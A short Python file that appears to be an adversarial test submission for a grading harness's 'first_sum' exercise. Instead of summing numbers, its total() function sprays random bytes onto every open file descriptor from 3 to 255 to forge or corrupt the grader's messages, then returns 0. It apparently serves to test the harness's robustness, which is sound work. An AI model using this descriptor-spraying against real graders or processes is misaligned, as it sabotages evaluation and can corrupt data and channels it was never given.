# forges: random bytes on every descriptor
# exercise: first_sum
import os
import struct

import msgspec


def frame(**message):
    body = msgspec.msgpack.encode(message)
    return struct.pack(">I", len(body)) + body


def send(data):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def total(numbers):
    for _ in range(100):
        send(os.urandom(1000))
    return 0
